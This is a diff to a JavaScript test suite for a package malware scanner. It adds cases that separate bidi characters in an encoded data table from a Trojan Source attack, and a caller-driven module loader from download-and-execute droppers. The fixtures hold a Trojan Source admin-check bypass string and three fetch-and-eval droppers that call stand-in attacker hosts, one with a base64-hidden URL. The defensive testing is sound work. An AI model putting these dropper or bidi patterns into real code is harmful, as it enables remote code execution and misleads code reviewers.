@@ -168,6 +168,41 @@ describe('behaviour detection rules', () => {
     expect(pkg({}, { name: 'left-pad', version: '2024.1.0' })).toEqual([]);
   });
 
+  it('reads bidi code points inside a long string of encoded data as data, not as Trojan Source (vite 7.1.7)', () => {
+    // vite bundles the entities package's HTML decode tree: a Uint16Array written as one long string of
+    // code points, some of which are bidi controls. Only the text around it is code a person reads.
+    const table = Array.from({ length: 200 }, (_, i) => String.fromCharCode(0x1d00 + ((i * 37) % 900))).join('');
+    const tree = `const htmlDecodeTree = new Uint16Array("${table}\u202e${table}\\0\u2066${table}".split("").map((c) => c.charCodeAt(0)));`;
+    expect(ids(pkg({ 'index.js': tree }))).not.toContain('bidi-control');
+    // A short, readable string with the same controls is still the attack, even beside such a table.
+    const trojan = `${tree}\nif (level != "user\u202e \u2066// Check if admin\u2069 \u2066") run();`;
+    expect(high(pkg({ 'index.js': trojan })).map((f) => f.id)).toContain('bidi-control');
+  });
+
+  it('tells a module loader (address from its caller) from a download of a named server (monaco-editor 0.52)', () => {
+    // monaco's AMD loader: fetch(scriptSrc).then(r => r.text()).then(text => new Function(text)).
+    const loader = `function load(scriptSrc, callback) {
+      fetch(scriptSrc).then((response) => response.text()).then((text) => { new Function(text).call(self); callback(); });
+    }
+    module.exports = { load };`;
+    const found = pkg({ 'loader.js': loader });
+    expect(ids(found)).toContain('loads-code');
+    expect(ids(found)).not.toContain('download-exec');
+    expect(high(found)).toEqual([]);
+    // The same function called with a server's address in the file is a downloader.
+    const dropper = `${loader.replace('module.exports = { load };', '')}\nload('https://cdn.attacker.example.test/stage2.js', () => {});`;
+    expect(high(pkg({ 'index.js': dropper })).map((f) => f.id)).toContain('download-exec');
+    // So is one whose address is decoded at run time, or a host given in request options.
+    const decoded = `fetch(Buffer.from('aHR0cHM6Ly9ldmlsLmV4YW1wbGUudGVzdA==', 'base64').toString()).then((r) => r.text()).then((code) => eval(code));`;
+    expect(high(pkg({ 'index.js': decoded })).map((f) => f.id)).toContain('download-exec');
+    const options = `require('https').get({ hostname: 'payload.example.test', path: '/x' }, (res) => { let b = ''; res.on('data', (d) => (b += d)); res.on('end', () => eval(b)); });`;
+    expect(high(pkg({ 'index.js': options })).map((f) => f.id)).toContain('download-exec');
+    // Installed code that loads from a caller-chosen address is high: nobody calls it with a reviewed address.
+    expect(
+      high(pkg({ 'loader.js': loader }, { scripts: { postinstall: 'node loader.js' } })).map((f) => f.id),
+    ).toContain('loads-code');
+  });
+
   it('never throws on code that does not parse, and still applies the text checks', () => {
     const broken = `function (( {{ ${'\u200b'.repeat(20)}`;
     expect(ids(pkg({ 'index.js': broken }))).toEqual(['invisible-characters']);
